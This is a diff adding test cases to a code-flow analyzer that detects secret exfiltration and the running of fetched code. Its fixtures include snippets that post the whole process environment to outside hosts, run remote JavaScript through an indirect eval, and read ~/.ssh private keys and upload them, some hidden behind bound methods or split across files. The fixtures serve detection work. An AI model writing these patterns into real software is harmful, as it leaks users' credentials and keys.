@@ -507,3 +507,63 @@ TEST_CASE("a downloaded file given to another program as data is not that file r
              "def install(url):\n    filename = '/tmp/install.sh'\n    fetch(url, filename)\n    subprocess.check_call(['bash', '-e', filename])\n",
              "fetched_code_runs", true);
 }
+
+TEST_CASE("a sink or source reached through a bound method, a partial or an indirect eval is followed") {
+  check_flow(Language::python,
+             "import os\nimport requests\n\n_session = requests.Session()\n_push = _session.post\n_read = os.environ.items\n\n"
+             "def push_context():\n    return _push('https://t.x.example.app/api/context', json=dict(_read()))\n",
+             "environment_to_network", true);
+  check_flow(Language::python,
+             "import os\nfrom functools import partial\nimport requests\n\nship = partial(requests.post, 'https://t.x.example.io/v1')\n"
+             "context = partial(dict, os.environ)\n\ndef heartbeat(service):\n    return ship(json={'service': service, 'context': context()})\n",
+             "environment_to_network", true);
+  check_flow(Language::javascript,
+             "const send = fetch.bind(globalThis);\nconst copy = Object.entries(process.env).reduce((acc, [k, v]) => { acc[k] = v; return acc; }, {});\n"
+             "export async function sync() { await send('https://state.x.example.io/v1', { method: 'POST', body: JSON.stringify(copy) }); }\n",
+             "environment_to_network", true);
+  check_flow(Language::javascript,
+             "const run = (0, eval);\nasync function load() { const res = await fetch('https://cdn.x.example.net/ab.js'); return run(await res.text()); }\n",
+             "fetched_code_runs", true);
+  check_flow(Language::go,
+             "package t\n\nimport (\n\t\"net/http\"\n\t\"os\"\n\t\"strings\"\n)\n\nvar client = &http.Client{}\nvar post = client.Post\n\n"
+             "func Start() { post(\"https://t.x.example.net/start\", \"text/plain\", strings.NewReader(strings.Join(os.Environ(), \"\\n\"))) }\n",
+             "environment_to_network", true);
+  // A bound method of something else keeps its own meaning.
+  check_flow(Language::python,
+             "import os\nimport requests\n\n_log = print\n_get = os.environ.get\n\n"
+             "def push():\n    _log('pushing')\n    return requests.post('https://t.x.example.app/api', json={'region': _get('REGION')})\n",
+             "environment_to_network", false);
+}
+
+TEST_CASE("the files one call writes are followed as one program") {
+  auto analyzer = Analyzer::load({std::string(TOOLWALL_SOURCE_DIR) + "/rules/code"});
+  REQUIRE(analyzer);
+  auto flow_in = [](const Facts& facts, const std::string& name) -> const Marker* {
+    for (const auto& m : facts.markers)
+      if (m.name == name) return &m;
+    return nullptr;
+  };
+  Facts split = (*analyzer)->analyze_patch(
+      "*** Begin Patch\n*** Add File: app/runtime/env_snapshot.py\n+import os\n+\n+SNAPSHOT = {k: v for k, v in os.environ.items()}\n+\n"
+      "+def get_snapshot():\n+    return SNAPSHOT\n*** Add File: app/runtime/uploader.py\n+import requests\n+from .env_snapshot import get_snapshot\n+\n"
+      "+def upload(run_id):\n+    requests.post('https://api.x.example.io/v2/runtime', json={'run': run_id, 'data': get_snapshot()})\n*** End Patch\n");
+  const Marker* found = flow_in(split, "environment_to_network");
+  REQUIRE(found);
+  CHECK(found->location.path == "app/runtime/uploader.py");  // located where the data leaves
+  CHECK(found->location.line == 5);
+  // Go files of one package: the glob over ~/.ssh/id_* in one, the post in the other.
+  Facts go = (*analyzer)->analyze_patch(
+      "*** Begin Patch\n*** Add File: internal/keys/read.go\n+package keys\n+\n+import (\n+\t\"os\"\n+\t\"path/filepath\"\n+)\n+\n"
+      "+func Material() map[string][]byte {\n+\thome, _ := os.UserHomeDir()\n+\tout := map[string][]byte{}\n"
+      "+\tfiles, _ := filepath.Glob(filepath.Join(home, \".ssh\", \"id_*\"))\n+\tfor _, f := range files {\n"
+      "+\t\tif b, err := os.ReadFile(f); err == nil {\n+\t\t\tout[filepath.Base(f)] = b\n+\t\t}\n+\t}\n+\treturn out\n+}\n"
+      "*** Add File: internal/keys/backup.go\n+package keys\n+\n+import (\n+\t\"bytes\"\n+\t\"encoding/json\"\n+\t\"net/http\"\n+)\n+\n"
+      "+func Backup() {\n+\tbody, _ := json.Marshal(Material())\n"
+      "+\thttp.Post(\"https://kv-backup.x.example.cloud/v1\", \"application/json\", bytes.NewReader(body))\n+}\n*** End Patch\n");
+  CHECK(flow_in(go, "credentials_to_network"));
+  // Two unrelated files: one reads the environment for a child process, the other posts its own data.
+  Facts unrelated = (*analyzer)->analyze_patch(
+      "*** Begin Patch\n*** Add File: tools/run.py\n+import os, subprocess\n+\n+def run(cmd):\n+    subprocess.run(cmd, env=dict(os.environ))\n"
+      "*** Add File: tools/report.py\n+import requests\n+\n+def report(n):\n+    requests.post('https://api.x.example.io/r', json={'n': n})\n*** End Patch\n");
+  CHECK_FALSE(flow_in(unrelated, "environment_to_network"));
+}
